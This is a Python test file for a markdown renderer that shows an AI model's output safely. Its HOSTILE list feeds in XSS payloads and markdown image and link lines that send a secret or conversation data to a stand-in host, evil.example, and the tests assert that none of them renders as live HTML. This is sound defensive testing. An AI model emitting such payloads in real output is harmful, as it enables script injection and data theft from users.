"""Markdown of a hostile model: nothing in the HTML can run or load."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolkit.widgets.markdown import MAX_MARKDOWN_CHARS, MAX_SHOWN_CHARS, plain, rendered

TEXT_TAGS = {"p", "br", "em", "strong", "s", "code", "pre", "blockquote", "hr", "span", "div"}
BLOCK_TAGS = {"h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li"}
TABLE_TAGS = {"table", "thead", "tbody", "tr", "th", "td"}
ALLOWED_TAGS = TEXT_TAGS | BLOCK_TAGS | TABLE_TAGS
ALLOWED_ATTRIBUTES = {"class", "style", "start", "tabindex"}


class Inspector(HTMLParser):
    """Collects every tag and attribute."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/leak?q=secret)",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html,<script>)",
    "[click](https://evil.example/?q=conversation)",
    "<https://evil.example>",
    '[a]: https://evil.example "t"\n\n[a] ![a]',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a | b |\n|:-:|--|\n| <b onclick=x> | `</td><script>` |",
    "<iframe srcdoc='<script>'>",
    "&lt;script&gt; &#60;script&#62;",
    "[" * 300 + "](x)" * 300,
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.goal(4)
def test_hostile_text_is_only_text(text: str) -> None:
    check(rendered(text))
    check(plain(text))


@given(
    st.text(
        alphabet=st.sampled_from(list("<>\"'&;:/()[]!`*_#|-\n =ajvscriptonerrorhref\x1b\u202e"))
    )
)
@pytest.mark.goal(4)
def test_no_text_makes_a_tag_that_could_load_or_run(text: str) -> None:
    check(rendered(text))
    check(plain(text))


def check(html: str) -> None:
    found = Inspector(html)
    assert found.tags <= ALLOWED_TAGS
    assert {name for name, _ in found.attributes} <= ALLOWED_ATTRIBUTES
    styles = {value for name, value in found.attributes if name == "style"}
    assert styles <= {"text-align:center", "text-align:left", "text-align:right"}
    assert "\x1b" not in html and "\u202e" not in html


def test_markdown_is_rendered() -> None:
    html = rendered("# Title\n\nsome **bold** and `code`\n\n- item\n\n| a |\n|---|\n| 1 |")
    for tag in ("<h1>", "<strong>", "<code>", "<li>", "<td>"):
        assert tag in html


def test_the_address_of_a_link_is_shown_and_not_live() -> None:
    html = rendered("[docs](https://docs.example/a?b=1&c=2)")
    assert "docs <code>https://docs.example/a?b=1&amp;c=2</code>" in html
    assert "href" not in html


def test_a_line_of_a_megabyte_is_cut_and_says_so() -> None:
    html = rendered("x" * 1_000_000)
    assert len(html) < MAX_SHOWN_CHARS + 500
    assert f"{1_000_000 - MAX_SHOWN_CHARS:,} characters" in html


def test_long_text_is_shown_as_it_stands() -> None:
    assert "<strong>" not in rendered("**a** " * MAX_MARKDOWN_CHARS)
